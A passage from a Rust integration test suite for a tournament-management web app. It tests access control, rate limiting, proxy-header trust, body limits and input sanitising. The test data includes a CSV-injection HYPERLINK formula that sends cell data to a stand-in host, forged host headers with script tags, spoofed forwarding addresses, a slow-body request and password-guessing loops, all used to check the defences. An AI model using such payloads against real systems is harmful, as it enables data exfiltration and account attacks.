//! Trust in every result: who may act as a player, what staff may not do in their own games,
//! what one visitor cannot exhaust, and what the site writes out.

use serde_json::{Value, json};
use sha2::{Digest, Sha256};

use crate::harness::{
    Browser, TestApp, account_with_token, add_player, event_with_players, finished_record,
    link_account, pair_round, personal_path,
};
use crate::{both_backends, both_backends_with};

const PASSWORD: &str = "kiela-2026-secret";

fn record(seed: u64) -> String {
    finished_record(
        kiela::rules::Variant::Advanced,
        kiela::rules::Side::South,
        seed,
    )
    .0
}

/// The game in which `player` plays, from a round as the API shows it.
fn game_of(round: &Value, player: i64) -> i64 {
    round["pairings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|p| {
            p["first"]["id"].as_i64() == Some(player) || p["second"]["id"].as_i64() == Some(player)
        })
        .and_then(|p| p["game_id"].as_i64())
        .unwrap()
}

async fn an_address_never_makes_anyone_a_player(app: &TestApp) {
    let client = app.browser();
    let org = account_with_token(app, "org@example.ao", "Org", "organiser");
    // Carla has an account before the organiser types her address; nobody has Ana's yet.
    let carla = account_with_token(app, "carla@example.ao", "Carla", "player");
    let created = client
        .api(
            "POST",
            "/api/v1/events",
            Some(&org),
            Some(json!({"name": "Aberto", "rounds": 2})),
        )
        .await
        .json();
    let (event, slug) = (
        created["id"].as_i64().unwrap(),
        created["slug"].as_str().unwrap().to_string(),
    );
    let mut ids = Vec::new();
    for (i, (name, email)) in [
        ("Ana", "ana@example.ao"),
        ("Bento", "bento@example.ao"),
        ("Carla", "carla@example.ao"),
        ("Dino", "dino@example.ao"),
    ]
    .iter()
    .enumerate()
    {
        let body = json!({"name": name, "email": email, "rating": 2000 - 10 * i as i64});
        ids.push(add_player(&client, &org, event, body).await);
    }
    // Someone signs up with Ana's address after the entry was made.
    let impostor = app.browser();
    assert_eq!(
        impostor
            .sign_up("Ana?", "ana@example.ao", PASSWORD)
            .await
            .status,
        303
    );
    let round = pair_round(&client, &org, event).await;
    let (ana_game, carla_game) = (game_of(&round, ids[0]), game_of(&round, ids[2]));
    assert_eq!(ana_game, carla_game, "Ana (1) plays Carla (3)");

    // Neither account is a player: the impostor's session and Carla's token are refused.
    let page = impostor
        .get(&format!("/events/{slug}/games/{ana_game}"))
        .await;
    assert_eq!(page.status, 200);
    assert!(
        !page.body.contains("/record\""),
        "no record form for the impostor"
    );
    let posted = impostor
        .post_form(
            &format!("/events/{slug}/games/{ana_game}/record"),
            &[("record", &record(1))],
        )
        .await;
    assert_eq!(posted.status, 403, "{}", posted.body);
    let by_token = client
        .api_text(
            &format!("/api/v1/games/{carla_game}/record"),
            &carla,
            &record(1),
        )
        .await;
    assert_eq!(by_token.status, 403, "{}", by_token.body);
    let players = client
        .api(
            "GET",
            &format!("/api/v1/events/{event}/players"),
            Some(&org),
            None,
        )
        .await
        .json();
    assert!(
        players["players"]
            .as_array()
            .unwrap()
            .iter()
            .all(|p| p["user_id"].is_null()),
        "{players}"
    );
    // The manage page offers the organiser to link the accounts; nothing happened by itself.
    let organiser = app.browser();
    organiser.log_in("org@example.ao", "a-long-password").await;
    let manage = organiser.get(&format!("/events/{slug}/manage")).await;
    assert!(
        manage.body.contains("Ligar à conta de Carla"),
        "{}",
        manage.body
    );
    // Once the organiser links Carla, her token acts for her entry.
    link_account(&client, &org, event, ids[2], "carla@example.ao").await;
    let submitted = client
        .api_text(
            &format!("/api/v1/games/{carla_game}/record"),
            &carla,
            &record(1),
        )
        .await;
    assert_eq!(submitted.status, 200, "{}", submitted.body);
    assert_eq!(submitted.json()["status"], "pending");
    // The impostor still is nobody in this event.
    let posted = impostor
        .post_form(&format!("/events/{slug}/games/{ana_game}/confirm"), &[])
        .await;
    assert_eq!(posted.status, 403);
}

async fn the_holder_of_a_personal_link_says_this_is_me(app: &TestApp) {
    let client = app.browser();
    let org = account_with_token(app, "org@example.ao", "Org", "organiser");
    let (event, slug) = event_with_players(
        &client,
        &org,
        json!({"name": "Ligações", "rounds": 1}),
        &["Ana", "Bento"],
    )
    .await;
    let players = client
        .api(
            "GET",
            &format!("/api/v1/events/{event}/players"),
            Some(&org),
            None,
        )
        .await
        .json();
    let ana = players["players"][0]["id"].as_i64().unwrap();
    let link = personal_path(&client, &org, event, ana).await;
    // Without an account, the page says how to link; signed in, it offers the button.
    let visitor = app.browser();
    assert!(visitor.get(&link).await.body.contains("/login?next=/p/"));
    let owner = app.browser();
    owner.sign_up("Ana Kiala", "ana@example.ao", PASSWORD).await;
    assert!(owner.get(&link).await.body.contains("/claim\""));
    assert_eq!(
        owner.post_form(&format!("{link}/claim"), &[]).await.status,
        303
    );
    // Her account now acts for the entry: the game page shows her the record form.
    let round = pair_round(&client, &org, event).await;
    let game = game_of(&round, ana);
    let page = owner.get(&format!("/events/{slug}/games/{game}")).await;
    assert!(
        page.body.contains(&format!("/games/{game}/record\"")),
        "{}",
        page.body
    );
    // Another account with the link cannot take the entry over.
    let other = app.browser();
    other.sign_up("Outra", "outra@example.ao", PASSWORD).await;
    let taken = other.post_form(&format!("{link}/claim"), &[]).await;
    assert_eq!(taken.status, 409, "{}", taken.body);
    let access = kiela::service::access::access(
        &app.app,
        kiela::service::access::EventRef::Id(kiela::domain::EventId(event as i32)),
        Some(
            &kiela::service::accounts::user_by_email(&app.app, "org@example.ao")
                .unwrap()
                .unwrap(),
        ),
    )
    .unwrap();
    let log = kiela::service::event_log::event_log(&app.app, &access).unwrap();
    let claims: Vec<_> = log
        .iter()
        .filter(|e| e.action == kiela::domain::AuditAction::PlayerClaimed)
        .collect();
    assert_eq!(claims.len(), 1);
    let kiela::service::audit::Said::Detail(kiela::service::audit::Detail::PlayerAccount {
        email,
        ..
    }) = &claims[0].detail
    else {
        panic!("{:?}", claims[0].detail);
    };
    assert_eq!(email, "ana@example.ao");
}

async fn a_reissued_link_replaces_the_old_one_at_once(app: &TestApp) {
    let client = app.browser();
    let org = account_with_token(app, "org@example.ao", "Org", "organiser");
    let (event, _) = event_with_players(
        &client,
        &org,
        json!({"name": "Talões", "rounds": 1}),
        &["Ana", "Bento"],
    )
    .await;
    let players = client
        .api(
            "GET",
            &format!("/api/v1/events/{event}/players"),
            Some(&org),
            None,
        )
        .await
        .json();
    let ana = players["players"][0]["id"].as_i64().unwrap();
    let old = personal_path(&client, &org, event, ana).await;
    assert_eq!(client.get(&old).await.status, 200);
    let reissued = client
        .api(
            "POST",
            &format!("/api/v1/events/{event}/players/{ana}/link"),
            Some(&org),
            None,
        )
        .await;
    assert_eq!(reissued.status, 200, "{}", reissued.body);
    let url = reissued.json()["url"].as_str().unwrap().to_string();
    let new = url[url.find("/p/").unwrap()..].to_string();
    assert_ne!(old, new);
    assert_eq!(
        client.get(&old).await.status,
        404,
        "the photographed slip is dead"
    );
    assert_eq!(client.get(&new).await.status, 200);
    assert_eq!(personal_path(&client, &org, event, ana).await, new);
    // Only the organiser reads or reissues links.
    let player = account_with_token(app, "p@example.ao", "P", "player");
    let refused = client
        .api(
            "POST",
            &format!("/api/v1/events/{event}/players/{ana}/link"),
            Some(&player),
            None,
        )
        .await;
    assert_eq!(refused.status, 403);
    let log = client.get(&new).await;
    assert_eq!(log.status, 200);
}

async fn staff_never_decide_their_own_game(app: &TestApp) {
    let client = app.browser();
    let org = account_with_token(app, "org@example.ao", "Org", "organiser");
    let arbiter = account_with_token(app, "arb@example.ao", "Árbitro", "arbiter");
    let second_arbiter = account_with_token(app, "arb2@example.ao", "Outro árbitro", "arbiter");
    let opponent = account_with_token(app, "opp@example.ao", "Opp", "player");
    let created = client
        .api(
            "POST",
            "/api/v1/events",
            Some(&org),
            Some(json!({"name": "Casa", "rounds": 1})),
        )
        .await
        .json();
    let (event, slug) = (
        created["id"].as_i64().unwrap(),
        created["slug"].as_str().unwrap().to_string(),
    );
    let organiser = app.browser();
    organiser.log_in("org@example.ao", "a-long-password").await;
    for email in ["arb@example.ao", "arb2@example.ao"] {
        let staff = organiser
            .post_form(
                &format!("/events/{slug}/staff"),
                &[("email", email), ("role", "arbiter")],
            )
            .await;
        assert_eq!(staff.status, 303);
    }
    // The arbiter plays, bound to the entry; the organiser plays with only the address on it.
    let a = add_player(
        &client,
        &org,
        event,
        json!({"name": "Árbitro", "rating": 2000}),
    )
    .await;
    let o = add_player(
        &client,
        &org,
        event,
        json!({"name": "Org", "rating": 1990, "email": "org@example.ao"}),
    )
    .await;
    let p = add_player(&client, &org, event, json!({"name": "Opp", "rating": 1980})).await;
    add_player(
        &client,
        &org,
        event,
        json!({"name": "Quarto", "rating": 1970}),
    )
    .await;
    link_account(&client, &org, event, a, "arb@example.ao").await;
    link_account(&client, &org, event, p, "opp@example.ao").await;
    let round = pair_round(&client, &org, event).await;
    let (arbiters_game, organisers_game) = (game_of(&round, a), game_of(&round, o));
    assert_eq!(arbiters_game, game_of(&round, p));

    // The arbiter's record of his own game waits for the opponent, like any player's.
    let sent = client
        .api_text(
            &format!("/api/v1/games/{arbiters_game}/record"),
            &arbiter,
            &record(3),
        )
        .await;
    assert_eq!(sent.status, 200, "{}", sent.body);
    assert_eq!(sent.json()["status"], "pending");
    // He cannot decide it, by the API or by the page.
    let decided = client
        .api(
            "POST",
            &format!("/api/v1/games/{arbiters_game}/decision"),
            Some(&arbiter),
            Some(json!({"result": "1-0"})),
        )
        .await;
    assert_eq!(decided.status, 403, "{}", decided.body);
    assert_eq!(decided.json()["error"]["code"], "own_game");
    let arbiter_browser = app.browser();
    arbiter_browser
        .log_in("arb@example.ao", "a-long-password")
        .await;
    let page = arbiter_browser
        .get(&format!("/events/{slug}/games/{arbiters_game}"))
        .await;
    assert!(
        !page.body.contains("/decide\""),
        "no decision form on his own game"
    );
    let by_page = arbiter_browser
        .post_form(
            &format!("/events/{slug}/games/{arbiters_game}/decide"),
            &[("result", "1-0")],
        )
        .await;
    assert_eq!(by_page.status, 403, "{}", by_page.body);
    // The organiser's entry carries her address: she may not act as staff on that game either.
    let as_staff = client
        .api_text(
            &format!("/api/v1/games/{organisers_game}/record"),
            &org,
            &record(4),
        )
        .await;
    assert_eq!(as_staff.status, 403, "{}", as_staff.body);
    let decided = client
        .api(
            "POST",
            &format!("/api/v1/games/{organisers_game}/decision"),
            Some(&org),
            Some(json!({"result": "+-"})),
        )
        .await;
    assert_eq!(
        decided.json()["error"]["code"],
        "own_game",
        "{}",
        decided.body
    );
    // Another arbiter decides it; the opponent confirms the arbiter's game.
    let decided = client
        .api(
            "POST",
            &format!("/api/v1/games/{organisers_game}/decision"),
            Some(&second_arbiter),
            Some(json!({"result": "+-"})),
        )
        .await;
    assert_eq!(decided.status, 200, "{}", decided.body);
    let confirmed = client
        .api(
            "POST",
            &format!("/api/v1/games/{arbiters_game}/confirm"),
            Some(&opponent),
            None,
        )
        .await;
    assert_eq!(confirmed.status, 200, "{}", confirmed.body);
    assert_eq!(confirmed.json()["status"], "final");
}

async fn the_last_administrator_keeps_the_role(app: &TestApp) {
    let admin = app.browser();
    assert_eq!(
        admin
            .sign_up("Admin", "admin@example.ao", PASSWORD)
            .await
            .status,
        303
    );
    let me = kiela::service::accounts::user_by_email(&app.app, "admin@example.ao")
        .unwrap()
        .unwrap();
    assert!(
        me.is_admin(),
        "the first account administers the installation"
    );
    let refused = admin
        .post_form(
            &format!("/admin/users/{}/role", me.id),
            &[("role", "player")],
        )
        .await;
    assert_eq!(refused.status, 409, "{}", refused.body);
    assert!(
        kiela::service::accounts::user_by_email(&app.app, "admin@example.ao")
            .unwrap()
            .unwrap()
            .is_admin()
    );
    // Two administrators demoting each other at the same moment leave one.
    kiela::service::accounts::create_user(
        &app.app,
        "second@example.ao",
        "Second",
        kiela::service::accounts::Role::Admin,
        PASSWORD,
    )
    .unwrap();
    let second_id = kiela::service::accounts::user_by_email(&app.app, "second@example.ao")
        .unwrap()
        .unwrap()
        .id;
    let second = app.browser();
    assert_eq!(
        second.log_in("second@example.ao", PASSWORD).await.status,
        303
    );
    let (a, b) = futures_util::future::join(
        admin.post_form(
            &format!("/admin/users/{second_id}/role"),
            &[("role", "player")],
        ),
        second.post_form(
            &format!("/admin/users/{}/role", me.id),
            &[("role", "player")],
        ),
    )
    .await;
    // One demotion goes through; the other is refused, as the last administrator's (409) or,
    // when it arrives after the first, as no administrator's any more (403).
    let mut statuses = [a.status, b.status];
    statuses.sort_unstable();
    assert!(
        statuses == [303, 403] || statuses == [303, 409],
        "{statuses:?}"
    );
    let admins = kiela::service::accounts::list_users(&app.app)
        .unwrap()
        .into_iter()
        .filter(kiela::service::accounts::User::is_admin)
        .count();
    assert_eq!(admins, 1);
}

async fn a_password_change_can_revoke_every_token(app: &TestApp) {
    for (email, revoke, token_works) in
        [("a@example.ao", true, false), ("b@example.ao", false, true)]
    {
        let token = account_with_token(app, email, "X", "player");
        let browser = app.browser();
        assert_eq!(browser.log_in(email, "a-long-password").await.status, 303);
        let page = browser.get("/account").await;
        assert!(
            crate::harness::has(
                &page.body,
                "input[name=revoke_tokens][value=\"1\"][checked]"
            ),
            "offered, checked"
        );
        let mut form = vec![("current", "a-long-password"), ("new", "another-long-one")];
        if revoke {
            form.push(("revoke_tokens", "1"));
        }
        assert_eq!(
            browser.post_form("/account/password", &form).await.status,
            303
        );
        // A player's token may not create events (403); a revoked one is not a token (401).
        let used = browser
            .api(
                "POST",
                "/api/v1/events",
                Some(&token),
                Some(json!({"name": "X"})),
            )
            .await;
        assert_eq!(used.status == 403, token_works, "{email}: {}", used.status);
    }
    // Guessing the current password is limited like a login.
    let browser = app.browser();
    browser.log_in("b@example.ao", "another-long-one").await;
    let mut statuses = Vec::new();
    for _ in 0..7 {
        let resp = browser
            .post_form(
                "/account/password",
                &[("current", "wrong guess!"), ("new", "whatever-long")],
            )
            .await;
        statuses.push(resp.status);
    }
    assert_eq!(statuses, [422, 422, 422, 422, 422, 429, 429]);
}

async fn simultaneous_wrong_passwords_check_no_more_than_the_limit(app: &TestApp) {
    kiela::service::accounts::create_user(
        &app.app,
        "ana@example.ao",
        "Ana",
        kiela::service::accounts::Role::Player,
        PASSWORD,
    )
    .unwrap();
    let browsers: Vec<Browser<'_>> = (0..40).map(|_| app.browser()).collect();
    let answers = futures_util::future::join_all(
        browsers
            .iter()
            .map(|b| b.log_in("ana@example.ao", "not her password")),
    )
    .await;
    let checked = answers.iter().filter(|r| r.status == 401).count();
    let limited = answers.iter().filter(|r| r.status == 429).count();
    assert_eq!(
        (checked, limited),
        (5, 35),
        "{:?}",
        answers.iter().map(|r| r.status).collect::<Vec<_>>()
    );
    assert!(
        answers
            .iter()
            .filter(|r| r.status == 429)
            .all(|r| r.header("retry-after").is_some())
    );
}

async fn sign_ups_are_limited_per_address(app: &TestApp) {
    let mut statuses = Vec::new();
    for i in 0..4 {
        let resp = app
            .browser()
            .sign_up("Nova", &format!("n{i}@example.ao"), PASSWORD)
            .await;
        statuses.push(resp.status);
    }
    assert_eq!(statuses, [303, 303, 303, 429]);
}

async fn the_client_address_is_the_right_most_one_the_proxy_saw(app: &TestApp) {
    let login = |from: String, n: usize| async move {
        let browser = app.browser();
        let token = browser.csrf().await;
        let body = serde_urlencoded::to_string([
            ("csrf", token.as_str()),
            ("email", &format!("nobody{n}@example.ao")),
            ("password", "guess-guess"),
        ])
        .unwrap();
        browser
            .request(
                "POST",
                "/login",
                &[
                    ("content-type", "application/x-www-form-urlencoded"),
                    ("x-forwarded-for", &from),
                ],
                body.into_bytes(),
            )
            .await
            .status
    };
    // The left part of the header is the client's own writing: changing it changes nothing.
    let mut statuses = Vec::new();
    for n in 0..4 {
        statuses.push(login(format!("6.6.6.{n}, 203.0.113.7"), n).await);
    }
    assert_eq!(statuses, [401, 401, 401, 429]);
    // Another client behind the same proxy is not limited.
    assert_eq!(login("203.0.113.8".into(), 9).await, 401);
    // The proxy's own address at the end is skipped.
    assert_eq!(login("203.0.113.7, 127.0.0.1".into(), 10).await, 429);
}

/// A guesser cannot lock the owner out: wrong passwords for an account from one address stop
/// that address (for that account), and the owner, elsewhere, signs in at once; the guesser's
/// next address starts its own count, and its own address limit holds across accounts.
async fn a_guesser_does_not_lock_the_owner_out(app: &TestApp) {
    let owner = app.browser();
    owner.sign_up("Ana", "ana@example.ao", PASSWORD).await;
    owner.post_form("/logout", &[]).await;
    let login = |from: &'static str, password: &'static str| async move {
        let browser = app.browser();
        let token = browser.csrf().await;
        let body = serde_urlencoded::to_string([
            ("csrf", token.as_str()),
            ("email", "ana@example.ao"),
            ("password", password),
        ])
        .unwrap();
        browser
            .request(
                "POST",
                "/login",
                &[
                    ("content-type", "application/x-www-form-urlencoded"),
                    ("x-forwarded-for", from),
                ],
                body.into_bytes(),
            )
            .await
            .status
    };
    let limit = app.app.config.login_limit_per_account as usize;
    let mut guesses = Vec::new();
    for _ in 0..=limit {
        guesses.push(login("198.51.100.66", "guess-guess").await);
    }
    assert_eq!(guesses[..limit], vec![401; limit][..], "{guesses:?}");
    assert_eq!(guesses[limit], 429, "the guesser's address is stopped");
    assert_eq!(
        login("198.51.100.66", PASSWORD).await,
        429,
        "even with the right password, from the guessing address"
    );
    assert_eq!(
        login("203.0.113.20", PASSWORD).await,
        303,
        "the owner, at another address, signs in"
    );
}

async fn made_up_query_strings_do_not_make_new_pages(app: &TestApp) {
    let client = app.browser();
    let org = account_with_token(app, "org@example.ao", "Org", "organiser");
    let names = ["Ana", "Bento", "Carla", "Dino", "Eva"];
    let (event, slug) =
        event_with_players(&client, &org, json!({"name": "Cache", "rounds": 3}), &names).await;
    pair_round(&client, &org, event).await;
    let first = client.get(&format!("/events/{slug}/players?x=1")).await;
    assert!(first.body.contains("Ana"));
    // The stored page is the answer for the same page with any other ignored parameter: a
    // change made behind the event's back (no new version) does not show.
    let mut conn = app.app.conn().unwrap();
    let sql = "UPDATE players SET name = 'Renamed' WHERE name = 'Ana'";
    use diesel::RunQueryDsl;
    match &mut *conn {
        kiela::db::DbConnection::Sqlite(c) => diesel::sql_query(sql).execute(c).unwrap(),
        kiela::db::DbConnection::Postgres(c) => diesel::sql_query(sql).execute(c).unwrap(),
    };
    drop(conn);
    for query in ["?x=2", "?utm=flood&y=3", "?lang=pt", ""] {
        let page = client.get(&format!("/events/{slug}/players{query}")).await;
        assert!(
            page.body.contains("Ana") && !page.body.contains("Renamed"),
            "{query}"
        );
    }
    // The round's explanation is computed once per version of the event, whoever asks.
    let access = kiela::service::access::access(
        &app.app,
        kiela::service::access::EventRef::Id(kiela::domain::EventId(event as i32)),
        None,
    )
    .unwrap();
    let a = kiela::service::round_plan::explain(&app.app, &access, 1).unwrap();
    let b = kiela::service::round_plan::explain(&app.app, &access, 1).unwrap();
    assert!(std::sync::Arc::ptr_eq(&a, &b));
}

async fn junk_records_are_kept_short_and_limited(app: &TestApp) {
    let client = app.browser();
    let org = account_with_token(app, "org@example.ao", "Org", "organiser");
    let (event, _) = event_with_players(
        &client,
        &org,
        json!({"name": "Lixo", "rounds": 1}),
        &["Ana", "Bento"],
    )
    .await;
    let players = client
        .api(
            "GET",
            &format!("/api/v1/events/{event}/players"),
            Some(&org),
            None,
        )
        .await
        .json();
    let ana = players["players"][0]["id"].as_i64().unwrap();
    let round = pair_round(&client, &org, event).await;
    let game = game_of(&round, ana);
    let link = personal_path(&client, &org, event, ana).await;
    let holder = app.browser();
    // 1.2 MB of junk whose 64 KiB mark falls inside an "é".
    let junk = format!("xxxxxx{}", "aé1 zz ".repeat(100_000));
    let mut statuses = Vec::new();
    for _ in 0..4 {
        let resp = holder
            .post_form(&format!("{link}/games/{game}/record"), &[("record", &junk)])
            .await;
        statuses.push(resp.status);
    }
    assert_eq!(statuses, [422, 422, 422, 429]);
    let mut conn = app.app.conn().unwrap();
    let stored =
        kiela::db::events::submissions_of_game(&mut conn, kiela::domain::GameId(game as i32))
            .unwrap();
    assert_eq!(stored.len(), 3);
    for s in &stored {
        assert!(
            s.record.len() <= 64 * 1024 && s.record.len() > 60 * 1024,
            "{}",
            s.record.len()
        );
        assert!(junk.starts_with(&s.record));
        assert_eq!(s.record_bytes as usize, junk.len());
        assert_eq!(
            s.record_sha256,
            hex::encode(Sha256::digest(junk.as_bytes()))
        );
    }
    let rejections =
        kiela::db::events::audit_of_game(&mut conn, kiela::domain::GameId(game as i32))
            .unwrap()
            .into_iter()
            .filter(|e| e.action == kiela::domain::AuditAction::RecordRejected)
            .count();
    assert_eq!(rejections, 3, "every stored rejection is in the log");
}

async fn a_trickled_body_is_cut_off(app: &TestApp) {
    let addr = app.base.trim_start_matches("http://").to_string();
    let answer = actix_web::web::block(move || {
        use std::io::{Read, Write};
        let mut stream = std::net::TcpStream::connect(addr).unwrap();
        stream.set_read_timeout(Some(std::time::Duration::from_secs(30))).unwrap();
        stream
            .write_all(b"POST /login HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 5000\r\n\r\nemail=")
            .unwrap();
        // Nothing more comes; the server answers and closes, it does not wait for ever.
        let mut answer = Vec::new();
        stream.read_to_end(&mut answer).unwrap();
        String::from_utf8_lossy(&answer).into_owned()
    })
    .await
    .unwrap();
    assert!(answer.starts_with("HTTP/1.1 408"), "{answer}");
    assert!(
        answer.to_ascii_lowercase().contains("connection: close"),
        "{answer}"
    );
}

async fn simultaneous_additions_get_numbers_and_slugs_of_their_own(app: &TestApp) {
    let client = app.browser();
    let org = account_with_token(app, "org@example.ao", "Org", "organiser");
    let created = client
        .api(
            "POST",
            "/api/v1/events",
            Some(&org),
            Some(json!({"name": "Corrida"})),
        )
        .await
        .json();
    let event = created["id"].as_i64().unwrap();
    let browsers: Vec<Browser<'_>> = (0..20).map(|_| app.browser()).collect();
    let path = format!("/api/v1/events/{event}/players");
    let added = futures_util::future::join_all(browsers.iter().enumerate().map(|(i, b)| {
        b.api(
            "POST",
            &path,
            Some(&org),
            Some(json!({"name": format!("Jogador {i}")})),
        )
    }))
    .await;
    assert!(
        added.iter().all(|r| r.status == 201),
        "{:?}",
        added
            .iter()
            .map(|r| (r.status, &r.body))
            .collect::<Vec<_>>()
    );
    let mut numbers: Vec<i64> = added
        .iter()
        .map(|r| r.json()["pairing_number"].as_i64().unwrap())
        .collect();
    numbers.sort_unstable();
    assert_eq!(numbers, (1..=20).collect::<Vec<_>>());
    let events = futures_util::future::join_all(browsers[..10].iter().map(|b| {
        b.api(
            "POST",
            "/api/v1/events",
            Some(&org),
            Some(json!({"name": "Mesmo nome"})),
        )
    }))
    .await;
    assert!(
        events.iter().all(|r| r.status == 201),
        "{:?}",
        events
            .iter()
            .map(|r| (r.status, &r.body))
            .collect::<Vec<_>>()
    );
    let slugs: std::collections::BTreeSet<String> = events
        .iter()
        .map(|r| r.json()["slug"].as_str().unwrap().to_string())
        .collect();
    assert_eq!(slugs.len(), 10);
}

async fn spreadsheets_never_run_a_name(app: &TestApp) {
    let client = app.browser();
    let org = account_with_token(app, "org@example.ao", "Org", "organiser");
    let evil = r#"=HYPERLINK("http://x.example/?a="&A1,"Click")"#;
    let created = client
        .api(
            "POST",
            "/api/v1/events",
            Some(&org),
            Some(json!({"name": "Folha"})),
        )
        .await
        .json();
    let (event, slug) = (
        created["id"].as_i64().unwrap(),
        created["slug"].as_str().unwrap().to_string(),
    );
    add_player(
        &client,
        &org,
        event,
        json!({"name": evil, "club": "@SUM(1)"}),
    )
    .await;
    add_player(
        &client,
        &org,
        event,
        json!({"name": "+Mais", "club": "-Menos"}),
    )
    .await;
    for path in [
        format!("/events/{slug}/standings.csv?format=plain"),
        format!("/api/v1/events/{event}/export.csv"),
    ] {
        let csv = client.get(&path).await.body;
        assert!(
            csv.contains(r#""'=HYPERLINK(""http://x.example/?a=""&A1,""Click"")""#),
            "{path}: {csv}"
        );
        assert!(
            csv.contains(",'@SUM(1),") && csv.contains(",'+Mais,") && csv.contains(",'-Menos,"),
            "{csv}"
        );
        for line in csv.lines().skip(1) {
            for cell in line.split(',') {
                let cell = cell.trim_start_matches('"');
                assert!(!cell.starts_with(['=', '+', '@']), "{line}");
            }
        }
    }
    // The page's file for people, in Portuguese: `;` between fields, the same guard.
    let people = client
        .get(&format!("/events/{slug}/standings.csv"))
        .await
        .body;
    assert!(
        people.contains(";'@SUM(1);")
            && people.contains(";'+Mais;")
            && people.contains(";'-Menos;"),
        "{people}"
    );
    for line in people.lines().skip(1) {
        for cell in line.split(';') {
            assert!(
                !cell.trim_start_matches('"').starts_with(['=', '+', '@']),
                "{line}"
            );
        }
    }
}

async fn control_characters_never_get_in(app: &TestApp) {
    let client = app.browser();
    let org = account_with_token(app, "org@example.ao", "Org", "organiser");
    for bad in [
        json!({"name": "Bad\u{7}"}),
        json!({"name": "Ok", "location": "Lu\u{0}anda"}),
        json!({"name": "De\u{7f}l"}),
    ] {
        let resp = client
            .api("POST", "/api/v1/events", Some(&org), Some(bad.clone()))
            .await;
        assert_eq!(resp.status, 422, "{bad}: {}", resp.body);
    }
    let created = client
        .api(
            "POST",
            "/api/v1/events",
            Some(&org),
            Some(json!({"name": "Nomes", "self_registration": true})),
        )
        .await
        .json();
    let (event, slug) = (
        created["id"].as_i64().unwrap(),
        created["slug"].as_str().unwrap().to_string(),
    );
    for bad in [
        json!({"name": "Ana\u{1b}[31m"}),
        json!({"name": "Ana", "club": "C\u{85}lube"}),
        json!({"name": "Ana", "province": "Lu\u{9b}anda"}),
    ] {
        let resp = client
            .api(
                "POST",
                &format!("/api/v1/events/{event}/players"),
                Some(&org),
                Some(bad.clone()),
            )
            .await;
        assert_eq!(resp.status, 422, "{bad}: {}", resp.body);
    }
    let organiser = app.browser();
    organiser.log_in("org@example.ao", "a-long-password").await;
    let form = organiser
        .post_form(
            &format!("/events/{slug}/players"),
            &[("name", "Bento\u{8}")],
        )
        .await;
    assert_eq!(form.status, 422);
    let csv = organiser
        .post_form(
            &format!("/events/{slug}/players/import"),
            &[("csv", "Carla\u{7},1500\nDino,1400\n")],
        )
        .await;
    assert_eq!(csv.status, 422, "the line is refused and nothing imported");
    let signup = app
        .browser()
        .sign_up("Eva\u{1}", "eva@example.ao", PASSWORD)
        .await;
    assert_eq!(signup.status, 422);
    // Other scripts, combining accents and right-to-left names are names; they are shown
    // isolated, so they cannot reorder the row around them.
    for name in ["عمر الكيلا", "Joa\u{303}o", "Ngola Kiluanji"] {
        add_player(&client, &org, event, json!({"name": name})).await;
    }
    let page = client.get(&format!("/events/{slug}/players")).await;
    assert!(
        crate::harness::texts(&page.body, "bdi").contains(&"عمر الكيلا".to_string()),
        "{}",
        page.body
    );
    assert!(page.body.contains("Joa\u{303}o"));
    // A TRF file from another program loses its control characters, not the import.
    let trf = client
        .get(&format!("/events/{slug}/tournament.trf"))
        .await
        .body;
    let dirty = trf.replacen("Ngola Kiluanji", "Ngola\u{0}Kiluanj\u{7}", 1);
    assert_ne!(dirty, trf);
    let imported = organiser
        .post_form("/events/import", &[("trf", &dirty)])
        .await;
    assert_eq!(imported.status, 303, "{}", imported.body);
    let manage = organiser.get(imported.location().unwrap()).await;
    assert!(manage.body.contains("NgolaKiluanj"), "{}", manage.body);
}

async fn links_are_built_from_the_configured_address_or_the_host(app: &TestApp) {
    let client = app.browser();
    let org = account_with_token(app, "org@example.ao", "Org", "organiser");
    let resp = client
        .request(
            "POST",
            "/api/v1/events",
            &[
                ("authorization", &format!("Bearer {org}")),
                ("content-type", "application/json"),
                ("x-forwarded-proto", "javascript"),
                ("x-forwarded-host", "evil.example"),
            ],
            r#"{"name":"Ligação"}"#.as_bytes().to_vec(),
        )
        .await;
    let url = resp.json()["url"].as_str().unwrap().to_string();
    let trust = app.app.config.trust_proxy;
    let expected = match (&app.app.config.base_url, trust) {
        (Some(base), _) => format!("{base}/events/ligacao"),
        (None, true) => "http://evil.example/events/ligacao".to_string(),
        (None, false) => format!("{}/events/ligacao", app.base),
    };
    assert_eq!(url, expected);
    if trust && app.app.config.base_url.is_none() {
        let resp = client
            .request(
                "POST",
                "/api/v1/events",
                &[
                    ("authorization", &format!("Bearer {org}")),
                    ("content-type", "application/json"),
                    ("x-forwarded-proto", "https"),
                    ("x-forwarded-host", "kiela.example"),
                ],
                br#"{"name":"Segura"}"#.to_vec(),
            )
            .await;
        assert_eq!(resp.json()["url"], "https://kiela.example/events/segura");
        let bad_host = client
            .request(
                "POST",
                "/api/v1/events",
                &[
                    ("authorization", &format!("Bearer {org}")),
                    ("content-type", "application/json"),
                    ("x-forwarded-host", "x.example/\"><script>"),
                ],
                br#"{"name":"Hospedeiro"}"#.to_vec(),
            )
            .await;
        assert!(
            bad_host.json()["url"]
                .as_str()
                .unwrap()
                .starts_with("http://127.0.0.1:")
        );
    }
    let ics = client.get("/events/ligacao/calendar.ics").await;
    assert_eq!(ics.status, 200);
}

async fn a_draft_round_is_nowhere_public(app: &TestApp) {
    let client = app.browser();
    let org = account_with_token(app, "org@example.ao", "Org", "organiser");
    let names = ["Ana", "Bento", "Carla", "Dino", "Eva"];
    let (event, slug) = event_with_players(
        &client,
        &org,
        json!({"name": "Rascunho", "rounds": 3}),
        &names,
    )
    .await;
    let round = pair_round(&client, &org, event).await;
    for (i, p) in round["pairings"].as_array().unwrap().iter().enumerate() {
        if p["second"].is_null() {
            continue;
        }
        let game = p["game_id"].as_i64().unwrap();
        let resp = client
            .api(
                "POST",
                &format!("/api/v1/games/{game}/decision"),
                Some(&org),
                Some(json!({"result": if i % 2 == 0 { "1-0" } else { "0-1" }})),
            )
            .await;
        assert_eq!(resp.status, 200, "{}", resp.body);
    }
    let public = app.browser();
    let exports = [
        format!("/events/{slug}/tournament.trf"),
        format!("/events/{slug}/standings.csv"),
        format!("/events/{slug}/games.kgn"),
        format!("/events/{slug}/calendar.ics"),
        format!("/api/v1/events/{event}/export.trf"),
        format!("/api/v1/events/{event}/standings"),
    ];
    let mut before = Vec::new();
    for path in &exports {
        before.push(public.get(path).await.body);
    }
